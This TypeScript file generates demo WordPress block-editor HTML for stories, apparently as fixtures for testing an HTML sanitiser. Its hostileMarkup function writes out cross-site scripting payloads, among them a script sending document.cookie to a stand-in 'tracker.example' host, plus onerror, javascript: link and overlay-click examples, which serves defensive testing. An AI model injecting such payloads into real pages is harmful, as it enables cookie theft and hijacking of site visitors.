// A demo story written as WordPress's block editor renders it, character references and all.
import type { Phrasebook, Story } from './stories/types';

/** Text as WordPress renders it: markup characters escaped, apostrophes curled into references. */
export function toRenderedText(text: string): string {
  return text.replace(/&/g, '&#038;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/'/g, '&#8217;');
}

const attribute = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

/** What a story carries besides its text. */
export type ContentExtras = {
  figure: { src: string; alt: string; width: number; height: number; imageId: number };
  videoId?: string;
  /** A partner's pasted HTML, hostile markup included. */
  partner?: boolean;
  /** The league's own address an external story opens. */
  link?: string;
};

function youtubeEmbed(story: Story, book: Phrasebook, videoId: string): string {
  return (
    '<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube"><div class="wp-block-embed__wrapper">' +
    `<iframe title="${attribute(`${book.words.video}: ${story.title}`)}" width="560" height="315" src="https://www.youtube-nocookie.com/embed/${videoId}?feature=oembed" ` +
    'frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe>' +
    '</div></figure>\n'
  );
}

// What a partner's pasted HTML may carry; the sanitiser must leave none of it working.
function hostileMarkup(book: Phrasebook): string {
  return (
    "<script>document.location='https://tracker.example/steal?c='+document.cookie</script>\n" +
    '<p><img src="x" onerror="alert(\'xss\')" alt=""> <span style="position:fixed;inset:0;z-index:9999" onclick="alert(1)"></span></p>\n' +
    `<p><a href="javascript:alert('xss')">${toRenderedText(book.words.partnerLink)}</a></p>\n`
  );
}

export function writeExcerpt(story: Story): string {
  return `<p>${toRenderedText(story.excerpt)}</p>\n`;
}

export function writeContent(story: Story, book: Phrasebook, extras: ContentExtras): string {
  const paragraph = (text: string) => `<p>${toRenderedText(text)}</p>\n`;
  const { figure } = extras;
  return [
    paragraph(story.intro),
    extras.videoId ? youtubeEmbed(story, book, extras.videoId) : '',
    paragraph(story.body),
    extras.partner ? hostileMarkup(book) : '',
    `<h2 class="wp-block-heading">${toRenderedText(story.listTitle)}</h2>\n`,
    `<ul class="wp-block-list">${story.list.map((item) => `<li>${toRenderedText(item)}</li>`).join('')}</ul>\n`,
    `<blockquote class="wp-block-quote"><p>${toRenderedText(story.quote)}</p><p><strong>${toRenderedText(story.quoteBy)}</strong></p></blockquote>\n`,
    `<figure class="wp-block-image size-large"><img decoding="async" src="${attribute(figure.src)}" alt="${attribute(figure.alt)}" width="${figure.width}" height="${figure.height}" class="wp-image-${figure.imageId}"/>` +
      `<figcaption class="wp-element-caption">${toRenderedText(story.caption)}</figcaption></figure>\n`,
    paragraph(story.closing),
    extras.link ? `<p><a href="${attribute(extras.link)}">${toRenderedText(book.words.openLink)}</a></p>\n` : '',
  ].join('');
}
